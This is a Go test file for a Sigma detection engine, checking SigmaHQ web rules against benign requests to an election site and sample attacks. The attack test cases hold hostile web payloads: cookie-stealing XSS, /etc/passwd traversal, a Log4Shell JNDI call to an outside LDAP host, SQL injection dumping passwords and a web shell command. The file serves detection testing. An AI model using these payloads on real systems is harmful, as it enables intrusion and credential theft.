package sigma

import (
	"flag"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"

	"github.com/garda-id/garda/internal/event"
	"github.com/garda-id/garda/internal/shareddata"
)

// Tests against SigmaHQ's webserver and proxy rules in
// ../shared/data/sigma-web (skipped when that folder is absent).

var update = flag.Bool("update", false, "rewrite testdata golden files")

func sigmaWebRules(t testing.TB) []*Rule {
	t.Helper()
	dir := shareddata.Path(t, "data", "sigma-web")
	rules, err := LoadFS(os.DirFS(dir), ".")
	if err != nil {
		t.Fatalf("rules that do not load:\n%v", err)
	}
	return rules
}

func TestSigmaHQRulesLoad(t *testing.T) {
	dir := shareddata.Path(t, "data", "sigma-web")
	var files []string
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() && strings.HasSuffix(p, ".yml") {
			files = append(files, p)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	rules := sigmaWebRules(t)
	if len(rules) != len(files) || len(files) < 145 {
		t.Fatalf("%d rule files, %d loaded; want all, and at least SigmaHQ's 145", len(files), len(rules))
	}
	s, err := Compile(rules, Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("%d of %d rule files load and compile", s.Len(), len(files))
}

// TestSigmaHQFields reports every field the rules use, where it maps, and
// the ones that map nowhere (conditions on those see an empty value).
func TestSigmaHQFields(t *testing.T) {
	rules := sigmaWebRules(t)
	uses := map[string]int{}
	for _, r := range rules {
		for _, s := range r.Detection.Searches {
			for _, it := range s.Items {
				for _, c := range it.Conds {
					if !c.Keyword() {
						uses[c.Field]++
					}
				}
			}
		}
	}
	names := make([]string, 0, len(uses))
	for n := range uses {
		names = append(names, n)
	}
	sort.Strings(names)
	env, err := newCompileEnv(Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range names {
		fs, ok := env.lookup(n)
		var ecs []string
		for _, f := range fs {
			ecs = append(ecs, f.ECS())
		}
		if !ok {
			ecs = []string{"UNMAPPED"}
		}
		t.Logf("%-16s %3d uses -> %s", n, uses[n], strings.Join(ecs, " | "))
	}
	s, err := Compile(rules, Options{})
	if err != nil {
		t.Fatal(err)
	}
	var unmapped []string
	for _, u := range s.Unmapped() {
		unmapped = append(unmapped, u.Field)
		t.Logf("unmapped %s, used by %s", u.Field, strings.Join(u.Rules, ", "))
	}
	st := s.Stats()
	t.Logf("rules that cannot match with WebFieldMap: %v", st.NeverMatch)
	t.Logf("rules evaluated on every event (no usable literal): %v", st.AlwaysEvaluated)
	t.Logf("literals per field: %v; automaton states: %v", st.Literals, st.States)
	if want := []string{"cs-content-type", "cs-cookie", "dst_ip"}; !slices.Equal(unmapped, want) {
		t.Errorf("unmapped fields %v, want %v: update WebFieldMap's doc comment and this test", unmapped, want)
	}
	if len(st.AlwaysEvaluated) > 0 {
		t.Errorf("rules without a usable literal, evaluated on every event: %v", st.AlwaysEvaluated)
	}
}

// extendedFieldMap maps the fields WebFieldMap lacks to spare event slots,
// so that the rules needing them can be tested at all.
func extendedFieldMap() FieldMap {
	m := FieldMap{}
	for k, v := range WebFieldMap {
		m[k] = v
	}
	m["cs-content-type"] = []event.Field{event.ProcessName}
	m["cs-cookie"] = []event.Field{event.RuleID}
	m["dst_ip"] = []event.Field{event.HostName}
	return m
}

// TestSigmaHQRulesFire builds, for every rule, an event it must match and
// one (the same with one field mutated) it must not, and checks that the
// prefiltered Set, the unfiltered Set and the rule alone agree.
func TestSigmaHQRulesFire(t *testing.T) {
	rules := sigmaWebRules(t)
	set, err := Compile(rules, Options{})
	if err != nil {
		t.Fatal(err)
	}
	wide, err := Compile(rules, Options{FieldMap: extendedFieldMap()})
	if err != nil {
		t.Fatal(err)
	}
	hand := regexExamples(t)
	for i, r := range set.Rules() {
		t.Run(strings.TrimSuffix(filepath.Base(r.Source), ".yml"), func(t *testing.T) {
			s := set
			pos := generatePositive(s, i, hand)
			if pos == nil && s.rules[i].nec.never() {
				t.Logf("cannot match with WebFieldMap (needs %s); tested with those fields mapped", unmappedOf(s, r))
				s = wide
				pos = generatePositive(s, i, hand)
			}
			if pos == nil {
				t.Fatalf("no event found that the rule matches (prefilter %s)", s.Prefilter(i))
			}
			neg, how := generateNegative(s, i, pos)
			if neg == nil {
				t.Fatalf("no single-field change of %v stops the rule matching", pos.Map())
			}
			m := s.NewMatcher()
			if !slices.Contains(m.Match(pos, nil), r) {
				t.Errorf("the Set does not match %v (prefilter %s)", pos.Map(), s.Prefilter(i))
			}
			if slices.Contains(m.Match(neg, nil), r) {
				t.Errorf("the Set matches the negative %v", neg.Map())
			}
			for _, ev := range []*event.Event{pos, neg, {}} {
				if a, b := m.Match(ev, nil), m.MatchUnfiltered(ev, nil); !slices.Equal(a, b) {
					t.Errorf("prefilter disagrees on %v: %v vs unfiltered %v", ev.Map(), titles(a), titles(b))
				}
			}
			if m.MatchRule(&event.Event{}, i) {
				t.Logf("matches the empty event")
			}
			t.Logf("+ %v", pos.Map())
			t.Logf("- %s", how)
		})
	}
}

func unmappedOf(s *Set, r *Rule) string {
	var out []string
	for _, u := range s.Unmapped() {
		if slices.Contains(u.Rules, ruleLabel(r)) {
			out = append(out, u.Field)
		}
	}
	return strings.Join(out, ", ")
}

func titles(rules []*Rule) []string {
	out := make([]string, len(rules))
	for i, r := range rules {
		out[i] = r.Title
	}
	return out
}

// regexExamples reads hand-written strings for regular expressions the
// generator cannot invert, keyed by the expression.
func regexExamples(t *testing.T) map[string]string {
	data, err := os.ReadFile("testdata/regex_examples.txt")
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	for _, line := range strings.Split(string(data), "\n") {
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		re, ex, ok := strings.Cut(line, "\t")
		if !ok {
			t.Fatalf("testdata/regex_examples.txt: %q: want expression TAB example", line)
		}
		out[re] = ex
	}
	return out
}

// benignRequests are ordinary requests to an election site.
func benignRequests() []*event.Event {
	chrome := benignAgents[0]
	return []*event.Event{
		webEvent("36.70.1.2", "GET", "/berita/123/pengumuman-dpt", 200, chrome, "https://kpu.example.id/"),
		webEvent("36.70.1.2", "GET", "/", 200, chrome, ""),
		webEvent("36.70.1.2", "GET", "/static/css/app.3f9a.css", 200, chrome, "https://kpu.example.id/"),
		webEvent("36.70.1.2", "GET", "/static/js/app.3f9a.js", 304, chrome, "https://kpu.example.id/"),
		webEvent("36.70.1.2", "GET", "/static/img/logo-kpu.png", 200, benignAgents[1], "https://kpu.example.id/"),
		webEvent("36.70.1.2", "GET", "/favicon.ico", 200, benignAgents[2], ""),
		webEvent("36.70.1.2", "GET", "/static/fonts/inter.woff2", 200, benignAgents[3], "https://kpu.example.id/static/css/app.css"),
		webEvent("36.70.1.3", "GET", "/cek-dpt?nik=3171012345678901", 200, benignAgents[1], "https://kpu.example.id/cek-dpt"),
		webEvent("36.70.1.3", "GET", "/api/dpt/cek?nik=3171012345678901&nama=siti+aminah", 200, benignAgents[1], "https://kpu.example.id/cek-dpt"),
		webEvent("36.70.1.4", "POST", "/login", 302, benignAgents[4], "https://kpu.example.id/login"),
		webEvent("36.70.1.4", "POST", "/login", 401, benignAgents[4], "https://kpu.example.id/login"),
		webEvent("36.70.1.5", "GET", "/hasil/pilpres?prov=31&tps=001", 200, chrome, "https://www.google.com/"),
		webEvent("36.70.1.5", "GET", "/cari?q=jadwal+pencoblosan+2024", 200, chrome, "https://kpu.example.id/"),
		webEvent("36.70.1.5", "GET", "/berita/99/lama", 404, chrome, ""),
		webEvent("36.70.1.6", "HEAD", "/", 200, "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", ""),
		webEvent("66.249.66.1", "GET", "/berita/123/pengumuman-dpt", 200, benignAgents[6], ""),
		webEvent("36.70.1.7", "GET", "/unduhan/dpt-final.xlsx", 200, chrome, "https://kpu.example.id/unduhan"),
		webEvent("36.70.1.7", "GET", "/unduhan/juknis-pemungutan.pdf", 200, chrome, "https://kpu.example.id/unduhan"),
		webEvent("36.70.1.7", "GET", "/unduhan/formulir-c1.doc", 200, chrome, "https://kpu.example.id/unduhan"),
		webEvent("36.70.1.7", "GET", "/unduhan/arsip-2019.zip", 200, chrome, "https://kpu.example.id/unduhan"),
		webEvent("36.70.1.8", "GET", "/infopemilu/caleg/5521?order=nama", 200, "curl/8.5.0", ""),
		webEvent("36.70.1.8", "GET", "/api/v1/hasil?format=json", 200, "python-requests/2.31.0", ""),
		webEvent("36.70.1.9", "GET", "/dapil/31/peta", 200, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", ""),
		webEvent("36.70.1.9", "GET", "/images/tps/031.jpg", 200, chrome, "https://kpu.example.id/dapil/31/peta"),
	}
}

// TestSigmaHQBenign lists the rules that fire on ordinary requests, against
// testdata/benign_fires.golden (go test -update rewrites it), so that
// broad rules are seen and decided on.
func TestSigmaHQBenign(t *testing.T) {
	set, err := Compile(sigmaWebRules(t), Options{})
	if err != nil {
		t.Fatal(err)
	}
	m := set.NewMatcher()
	var b strings.Builder
	for _, ev := range benignRequests() {
		got := m.Match(ev, nil)
		if unf := m.MatchUnfiltered(ev, nil); !slices.Equal(got, unf) {
			t.Errorf("prefilter disagrees on %v", ev.Map())
		}
		for _, r := range got {
			b.WriteString(ev.Get(event.HTTPMethod) + " " + ev.Get(event.URLOriginal) + " [" + ev.Get(event.UserAgent) + "] -> " + r.Level + " " + r.Title + " (" + r.ID + ")\n")
		}
	}
	got := b.String()
	t.Logf("rules firing on benign requests:\n%s", got)
	golden := "testdata/benign_fires.golden"
	if *update {
		if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if got != string(want) {
		t.Errorf("rules firing on benign requests changed (go test -update to accept):\ngot:\n%s\nwant:\n%s", got, want)
	}
}

// TestSigmaHQAttacks checks that the attacks of bench/genlog.py's classes
// raise the rules meant for them.
func TestSigmaHQAttacks(t *testing.T) {
	set, err := Compile(sigmaWebRules(t), Options{})
	if err != nil {
		t.Fatal(err)
	}
	chrome := benignAgents[0]
	cases := []struct {
		ev   *event.Event
		want string // a rule id
	}{
		{webEvent("203.0.113.5", "GET", "/cari?q=%3Cscript%3Ealert(1)%3C/script%3E", 200, chrome, ""), "65354b83-a2ea-4ea6-8414-3ab38be0d409"},
		{webEvent("203.0.113.5", "GET", "/berita?nama=%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E", 200, chrome, ""), "65354b83-a2ea-4ea6-8414-3ab38be0d409"},
		{webEvent("203.0.113.5", "GET", "/cari?cari=javascript:alert(1)", 200, chrome, ""), "65354b83-a2ea-4ea6-8414-3ab38be0d409"},
		{webEvent("203.0.113.6", "GET", "/api/dpt/cek?file=../../../../etc/passwd", 400, chrome, ""), "7745c2ea-24a5-4290-b680-04359cb84b35"},
		{webEvent("203.0.113.7", "GET", "/cari?url=${jndi:ldap://198.51.100.9/a}", 500, chrome, ""), "5ea8faa8-db8b-45be-89b0-151b84c82702"},
		{webEvent("203.0.113.7", "GET", "/cari?url=${jndi:ldap://198.51.100.9/a}", 500, chrome, ""), "9be472ed-893c-4ec0-94da-312d2765f654"},
		{webEvent("203.0.113.7", "GET", "/", 200, "${jndi:ldap://198.51.100.9/a}", ""), "9be472ed-893c-4ec0-94da-312d2765f654"},
		{webEvent("203.0.113.8", "GET", "/hasil/pilpres", 200, "sqlmap/1.7.2#stable (https://sqlmap.org)", ""), "19aa4f58-94ca-45ff-bc34-92e533c0994a"},
		{webEvent("203.0.113.8", "GET", "/hasil/pilpres", 200, "sqlmap/1.7.2#stable (https://sqlmap.org)", ""), "c42a3073-30fb-48ae-8c99-c23ada84b103"},
		{webEvent("203.0.113.8", "GET", "/", 200, "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:007005)", ""), "19aa4f58-94ca-45ff-bc34-92e533c0994a"},
		{webEvent("203.0.113.9", "GET", "/.git/config", 404, chrome, ""), "953d460b-f810-420a-97a2-cfca4c98e602"},
		{webEvent("203.0.113.10", "GET", "/berita?id=1%20UNION%20SELECT%20username,password%20FROM%20users", 200, chrome, ""), "5513deaf-f49a-46c2-a6c8-3f111b5cb453"},
		{webEvent("203.0.113.10", "GET", "/cari?q={{7*7}}&x=1", 200, chrome, ""), "ada3bc4f-f0fd-42b9-ba91-e105e8af7342"},
		{webEvent("203.0.113.11", "GET", "/uploads/shell.aspx?c=whoami", 200, chrome, ""), "7ff9db12-1b94-4a79-ba68-a2402c5d6729"},
	}
	m := set.NewMatcher()
	for _, c := range cases {
		got := m.Match(c.ev, nil)
		if !slices.ContainsFunc(got, func(r *Rule) bool { return r.ID == c.want }) {
			t.Errorf("%s %s [%s]: %v does not include rule %s", c.ev.Get(event.HTTPMethod), c.ev.Get(event.URLOriginal), c.ev.Get(event.UserAgent), titles(got), c.want)
		}
		if unf := m.MatchUnfiltered(c.ev, nil); !slices.Equal(got, unf) {
			t.Errorf("prefilter disagrees on %v", c.ev.Map())
		}
	}
}

// TestSigmaHQPrefilterAgrees runs generated traffic, benign and with the
// attacks mixed in, through both paths.
func TestSigmaHQPrefilterAgrees(t *testing.T) {
	set, err := Compile(sigmaWebRules(t), Options{MemoSlots: 16})
	if err != nil {
		t.Fatal(err)
	}
	m := set.NewMatcher()
	events := append(benignTraffic(3000, 11), attackTraffic(500, 12)...)
	for _, ev := range events {
		if a, b := m.Match(ev, nil), m.MatchUnfiltered(ev, nil); !slices.Equal(a, b) {
			t.Fatalf("prefilter disagrees on %v: %v vs %v", ev.Map(), titles(a), titles(b))
		}
	}
}
